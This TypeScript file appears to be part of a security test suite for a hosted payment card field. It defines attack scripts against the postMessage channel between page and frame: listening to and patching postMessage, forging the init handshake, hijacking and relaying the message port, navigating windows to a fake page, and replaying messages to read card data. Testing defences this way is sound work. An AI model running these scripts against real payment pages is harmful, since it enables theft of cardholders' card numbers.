/** Messages between the page and the frame: overheard, answered, forged, replayed, and the port taken away. */
import type { Attack } from '../attack.ts';

/** An `init` as the hosted document takes one. */
const INIT = `{ type: 'init', version: 1, gateway: 'gmo', environment: 'test', provider: 'gmo-pg', shopId: 'tshop00000001', apiKey: '', publicKey: '',
  fieldsBy: 'shoji', sendFingerprint: false, fields: ['number', 'expiry', 'cvc'], brands: [],
  language: 'en', words: {}, style: [], fonts: [], disabled: false }`;

/** Gets at the frame's window, where a script that ran first can: the patched accessor of `contentWindow`. */
const WITH_HANDLE = `const windows = new Set();
  patch(HTMLIFrameElement.prototype, 'contentWindow', (self, values, result) => { if (result && !self.name) windows.add(result); });`;

export const MESSAGES: readonly Attack[] = [
  {
    id: 'ms-listen',
    what: 'listens to messages of window: data, source and ports',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `listen(window, 'message', (event) => { steal(event.data); for (const port of event.ports) port.onmessage = ({ data }) => steal(data); }, true);`,
  },
  {
    id: 'ms-source-nav',
    what: 'navigates every window that the platform hands out to a document of its own: sources of messages, views of events, scripts of long frames',
    aim: 'replacement',
    control: 'replaces',
    alone: true,
    script: `const go = (target) => { if (target && target !== window && typeof target === 'object' && 'closed' in target) target.location = FAKE; };
      listen(window, 'message', (event) => go(event.source), true);
      for (const type of ['focusin', 'focusout', 'pointerover', 'mousedown', 'keydown', 'click']) listen(window, type, (event) => { go(event.view); go(event.sourceCapabilities?.view); }, true);
      for (const type of ['long-animation-frame', 'longtask']) {
        try { new PerformanceObserver((list) => { for (const entry of list.getEntries()) for (const script of entry.scripts ?? []) go(script.window); }).observe({ type, buffered: true }); } catch { /* not here */ }
      }`,
  },
  {
    id: 'ms-patch',
    what: 'patches postMessage of windows and ports, MessageChannel, onmessage and MessageEvent.data',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `const see = (self, values, result) => steal(...values, result);
      patch(window, 'postMessage', see);
      patch(MessagePort.prototype, 'postMessage', see);
      patch(MessageEvent.prototype, 'data', see);
      const ports = (self, values, port) => { if (port) listen(port, 'message', ({ data }) => steal(data)); };
      for (const name of ['port1', 'port2']) patch(MessageChannel.prototype, name, ports);
      patch(MessagePort.prototype, 'onmessage', (self, [handler]) => { if (handler) listen(self, 'message', ({ data }) => steal(data)); });
      if (window.BroadcastChannel) patch(BroadcastChannel.prototype, 'postMessage', see);`,
  },
  {
    id: 'ms-forge',
    what: 'speaks the protocol itself to every window it can name: tokenize, getValue, debug, with and without a port',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `const talk = (target) => {
        for (const data of [{ type: 'getValue' }, { type: 'tokenize', id: 'x', count: 1 }, { type: 'debug' }, { type: 'state' }, ${INIT}, 'getValue', null, { __proto__: null, type: 'constructor' }]) {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = (event) => steal(event.data);
          try { target.postMessage(data, '*'); target.postMessage(data, '*', [port2]); } catch { /* gone */ }
        }
      };
      listen(window, 'message', (event) => { if (event.source !== window) steal(event.data); });
      const all = () => { for (let at = 0; at < window.length; at += 1) talk(window[at]); for (const host of hosts()) { for (const key of ['contentWindow', 'frame', 'iframe']) if (host[key]) talk(host[key]); } };
      moment(async () => { all(); await roundTrip(); });`,
  },
  {
    id: 'ms-handshake',
    what: 'forges the handshake: says init to the frame before the page does, over a port of its own, then asks for everything',
    aim: 'replacement',
    control: 'reads',
    alone: 'before',
    noisy: true,
    script: `${WITH_HANDLE}
      const ports = [];
      let isHeard = false;
      const begin = (target) => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => { isHeard = true; steal(data); };
        ports.push(port1);
        target.postMessage(${INIT}, '*', [port2]);
      };
      patch(window, 'postMessage', (self, values, result) => undefined);
      const original = window.postMessage;
      window.postMessage = function (...values) {
        if (this && this !== window && values[0]?.type === 'init') { try { begin(this); } catch { /* not ours to talk to */ } }
        return original.apply(this ?? window, values);
      };
      moment(async () => {
        for (let at = 0; at < window.length; at += 1) begin(window[at]);
        for (const port of ports) for (const message of [{ type: 'getValue' }, { type: 'focus', target: 'wrong' }, { type: 'tokenize', id: 'mine', count: 1 }]) port.postMessage(message);
        await until(() => isHeard);
      });`,
  },
  {
    id: 'ms-port',
    takesPort: true,
    what: 'takes the port away: keeps the one meant for the frame, talks to the page in the frame’s name and to the frame in the page’s',
    aim: 'replacement',
    control: 'reads',
    alone: 'before',
    noisy: true,
    script: `${WITH_HANDLE}
      const relays = [];
      let isAnswered = false;
      const original = window.postMessage;
      window.postMessage = function (data, origin, transfer) {
        const [port] = transfer?.[Symbol.iterator] ? transfer : [];
        if (!(port instanceof MessagePort) || data?.type !== 'init') return original.apply(this ?? window, arguments);
        const { port1, port2 } = new MessageChannel();
        // in the middle: every message of both sides goes through our hands
        port.onmessage = ({ data }) => { steal(data); port1.postMessage(data); };
        port1.onmessage = ({ data }) => { isAnswered ||= data?.id === 'mine'; steal(data); port.postMessage(data); };
        steal('taken from ours');
        relays.push(port1);
        return original.call(this, { ...data, words: { ...data.words, 'label-number': 'x' } }, origin, [port2]);
      };
      for (const name of ['port1', 'port2']) patch(MessageChannel.prototype, name, (self, values, port) => { if (port) listen(port, 'message', ({ data }) => steal(data)); });
      whenHosts(() => {
        // the control does the same over a channel that anybody can take
        const { port1, port2 } = new MessageChannel();
        relays.push(port2);
        port2.onmessage = ({ data }) => steal(data);
        moment(() => port1.postMessage({ number: document.getElementById('control-number').value }));
      });
      moment(async () => {
        for (const port of relays) for (const message of [{ type: 'getValue' }, { type: 'tokenize', id: 'mine', count: 1 }, { type: 'labels', language: 'en', words: {} }]) port.postMessage(message);
        await until(() => isAnswered);
      });`,
  },
  {
    id: 'ms-replay',
    what: 'records every message it can see and says each again, to windows, ports and as forged events',
    aim: 'replacement',
    control: 'reads',
    alone: 'before',
    noisy: true,
    script: `${WITH_HANDLE}
      const heard = [];
      const ports = new Set();
      const keep = (data) => { if (heard.length < 60) { try { heard.push(structuredClone(data)); steal(data); } catch { /* not to be cloned */ } } };
      patch(MessagePort.prototype, 'postMessage', (self, [data], result, kind) => { ports.add(self); keep(data); });
      patch(window, 'postMessage', (self, [data]) => keep(data));
      patch(MessageEvent.prototype, 'data', (self, values, data) => { if (data !== undefined) keep(data); });
      listen(window, 'message', ({ data, source }) => { if (source !== window) keep(data); });
      moment(async () => {
        for (const data of [...heard]) {
          for (const port of ports) { try { port.postMessage(data); port.dispatchEvent(new MessageEvent('message', { data })); port.onmessage?.(new MessageEvent('message', { data })); } catch { /* closed */ } }
          for (const target of windows) { const { port1, port2 } = new MessageChannel(); port1.onmessage = (event) => steal(event.data); try { target.postMessage(data, '*', [port2]); } catch { /* gone */ } }
          dispatchEvent(new MessageEvent('message', { data }));
        }
        await roundTrip();
      });`,
  },
];
